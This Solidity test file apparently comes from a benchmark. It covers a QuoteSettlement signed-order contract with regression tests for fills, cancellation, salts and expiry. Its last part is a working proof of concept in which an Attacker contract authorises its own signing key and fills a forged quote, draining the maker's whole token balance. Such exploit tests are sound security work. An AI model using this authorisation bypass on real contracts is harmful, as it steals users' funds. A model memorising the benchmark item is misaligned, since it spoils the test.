// SPDX-License-Identifier: MIT
pragma solidity 0.8.19;

import "./QuoteSettlement.sol";
import {ERC20} from "@openzeppelin/contracts@4.9.6/token/ERC20/ERC20.sol";

// assay-canary-98200512-f25f-4d9a-951e-0283e2244a12

interface Vm {
    function prank(address sender) external;
    function sign(uint256 key, bytes32 digest) external returns (uint8 v, bytes32 r, bytes32 s);
    function addr(uint256 key) external returns (address);
    function expectRevert(bytes4 reason) external;
    function expectRevert(bytes calldata reason) external;
}

contract Token is ERC20 {
    address private minter = msg.sender;

    constructor() ERC20("Token", "TKN") {}

    function mint(address to, uint256 amount) external {
        require(msg.sender == minter, "minter only");
        _mint(to, amount);
    }
}

contract Proof {
    address internal constant STRANGER = address(0x57A);
    Vm internal constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    uint256 internal constant MAKER_KEY = 0xD35C;
    uint256 internal constant ROTATED = 0x407A7ED;
    uint256 internal constant OWN_KEY = 0x77;
    uint256 internal constant STOCK = 5_870_000e6;

    Token internal usd;
    Token internal ether_;
    QuoteSettlement internal settlement;
    Attacker internal mallory;
    address internal maker;
    IQuotes.Quote internal forged;
    IQuotes.Signature internal signed;

    function setUp() public {
        usd = new Token();
        ether_ = new Token();
        settlement = new QuoteSettlement();
        maker = vm.addr(MAKER_KEY);
        usd.mint(maker, STOCK);
        vm.prank(maker);
        usd.approve(address(settlement), type(uint256).max);
        ether_.mint(address(this), 100e18);
        ether_.approve(address(settlement), type(uint256).max);

        // the attacker signs with a key of its own, which nobody has authorised
        mallory = new Attacker(settlement, vm.addr(OWN_KEY));
        forged = IQuotes.Quote(maker, address(mallory), address(usd), address(ether_), STOCK, 0, type(uint256).max, 1);
        signed = _sign(OWN_KEY, forged);
    }

    function _sign(uint256 key, IQuotes.Quote memory q) internal returns (IQuotes.Signature memory) {
        bytes32 domain = keccak256(
            abi.encode(
                keccak256("EIP712Domain(string name,string version,uint256 chainId,address verifyingContract)"),
                keccak256("QuoteSettlement"),
                keccak256("1"),
                block.chainid,
                address(settlement)
            )
        );
        (uint8 v, bytes32 r, bytes32 s) =
            vm.sign(key, keccak256(abi.encodePacked(hex"1901", domain, settlement.hashOf(q))));
        return IQuotes.Signature(v, r, s);
    }

    function test_Regular() public {
        IQuotes.Quote memory q = IQuotes.Quote(
            maker, address(this), address(usd), address(ether_), 30_000e6, 10e18, block.timestamp + 60, 5
        );
        IQuotes.Signature memory sig = _sign(MAKER_KEY, q);
        require(settlement.fillPart(q, 9_000e6, sig) == 3e18, "part");
        require(settlement.fill(q, sig) == 7e18, "rest");
        require(usd.balanceOf(address(this)) == 30_000e6 && ether_.balanceOf(maker) == 10e18, "swapped");
        (bool ok,) = address(settlement).call(abi.encodeCall(QuoteSettlement.fill, (q, sig)));
        require(!ok, "filled twice");

        // another key signs only once the maker has authorised it
        q.salt = 6;
        sig = _sign(ROTATED, q);
        (ok,) = address(settlement).call(abi.encodeCall(QuoteSettlement.fill, (q, sig)));
        require(!ok, "signed by a stranger");

        IQuotes.Quote[] memory qs = new IQuotes.Quote[](2);
        IQuotes.Signature[] memory sigs = new IQuotes.Signature[](2);
        qs[1] = q;
        qs[0] = IQuotes.Quote(
            maker, address(this), address(usd), address(ether_), 3_000e6, 1e18, block.timestamp + 60, 8
        );
        (sigs[0], sigs[1]) = (_sign(MAKER_KEY, qs[0]), sig);
        vm.prank(maker);
        settlement.cancel(q);
        require(settlement.fillMany(qs, sigs) == 1, "one of two");

        q.salt = 9;
        sig = _sign(MAKER_KEY, q);
        vm.prank(maker);
        settlement.raiseMinimumSalt(10);
        (ok,) = address(settlement).call(abi.encodeCall(QuoteSettlement.fill, (q, sig)));
        require(!ok, "withdrawn");

        vm.prank(maker);
        settlement.setSigner(address(0x51), true);
        require(settlement.isSigner(maker, address(0x51)), "signer");

        // a key that signs for both sides
        vm.prank(maker);
        settlement.setSigner(vm.addr(ROTATED), true);
        settlement.setSigner(vm.addr(ROTATED), true);
        q.salt = 11;
        sig = _sign(ROTATED, q);
        require(settlement.fill(q, sig) == 10e18, "signed by an authorised key");
    }

    /// An order of the maker that this account may fill.
    function _quote() internal view returns (IQuotes.Quote memory) {
        return IQuotes.Quote(
            maker, address(this), address(usd), address(ether_), 30_000e6, 10e18, block.timestamp + 60, 5
        );
    }

    function test_RefusesOtherCallers() public {
        IQuotes.Quote memory q = _quote();
        IQuotes.Signature memory sig = _sign(MAKER_KEY, q);
        vm.prank(STRANGER);
        vm.expectRevert(abi.encodeWithSelector(IQuotes.NotTaker.selector, STRANGER));
        settlement.fill(q, sig);
        vm.prank(STRANGER);
        vm.expectRevert(abi.encodeWithSelector(IQuotes.NotMaker.selector, STRANGER));
        settlement.cancel(q);
        vm.expectRevert(abi.encodeWithSelector(IQuotes.NotMaker.selector, address(this)));
        settlement.cancel(q);
    }

    function test_RefusesToLowerTheSalt() public {
        settlement.raiseMinimumSalt(10);
        vm.expectRevert(abi.encodeWithSelector(SaltRegistry.SaltNotHigher.selector, 10, 10));
        settlement.raiseMinimumSalt(10);
        vm.expectRevert(abi.encodeWithSelector(SaltRegistry.SaltNotHigher.selector, 9, 10));
        settlement.raiseMinimumSalt(9);
        vm.prank(STRANGER);
        vm.expectRevert(abi.encodeWithSelector(SaltRegistry.SaltNotHigher.selector, 0, 0));
        settlement.raiseMinimumSalt(0);
    }

    function test_RefusesNobodyAsSigner() public {
        vm.expectRevert(SignerRegistry.NoSigner.selector);
        settlement.setSigner(address(0), true);
        IQuotes.Quote memory q = _quote();
        vm.expectRevert("ECDSA: invalid signature");
        settlement.fill(q, IQuotes.Signature(0, 0, 0));
        q.maker = address(0);
        vm.expectRevert("ECDSA: invalid signature");
        settlement.fill(q, IQuotes.Signature(0, 0, 0));
    }

    function test_RefusesQuotesThatHaveRunOut() public {
        IQuotes.Quote memory q = _quote();
        q.expiry = block.timestamp - 1;
        IQuotes.Signature memory sig = _sign(MAKER_KEY, q);
        vm.expectRevert(abi.encodeWithSelector(IQuotes.QuoteExpired.selector, q.expiry));
        settlement.fill(q, sig);
    }

    function test_RefusesAmountsAboveTheQuote() public {
        IQuotes.Quote memory q = _quote();
        IQuotes.Signature memory sig = _sign(MAKER_KEY, q);
        vm.expectRevert(abi.encodeWithSelector(IQuotes.AmountOutOfRange.selector, 30_000e6 + 1));
        settlement.fillPart(q, 30_000e6 + 1, sig);
        vm.expectRevert(abi.encodeWithSelector(IQuotes.AmountOutOfRange.selector, 0));
        settlement.fillPart(q, 0, sig);
        settlement.fillPart(q, 20_000e6, sig);
        vm.expectRevert(abi.encodeWithSelector(IQuotes.AmountOutOfRange.selector, 10_000e6 + 1));
        settlement.fillPart(q, 10_000e6 + 1, sig);
    }

    function test_RefusesListsThatDoNotFit() public {
        vm.expectRevert(abi.encodeWithSelector(IQuotes.LengthsDiffer.selector, 0, 1));
        settlement.fillMany(new IQuotes.Quote[](0), new IQuotes.Signature[](1));
    }

    function exploit() public {
        mallory.run(forged, signed);
    }

    function test_Exploit() public {
        uint256 before = usd.balanceOf(address(mallory));
        exploit();
        require(usd.balanceOf(address(mallory)) >= before + STOCK, "nothing gained");
    }

    function target() public view returns (address) {
        return address(settlement);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }

    function token() public view returns (address) {
        return address(usd);
    }
}

/// Authorises its own key for itself and fills a quote that the maker never gave.
contract Attacker {
    QuoteSettlement internal settlement;
    address internal key;

    constructor(QuoteSettlement settlement_, address key_) {
        settlement = settlement_;
        key = key_;
    }

    function run(IQuotes.Quote calldata q, IQuotes.Signature calldata sig) external {
        settlement.setSigner(key, true);
        settlement.fill(q, sig);
    }
}
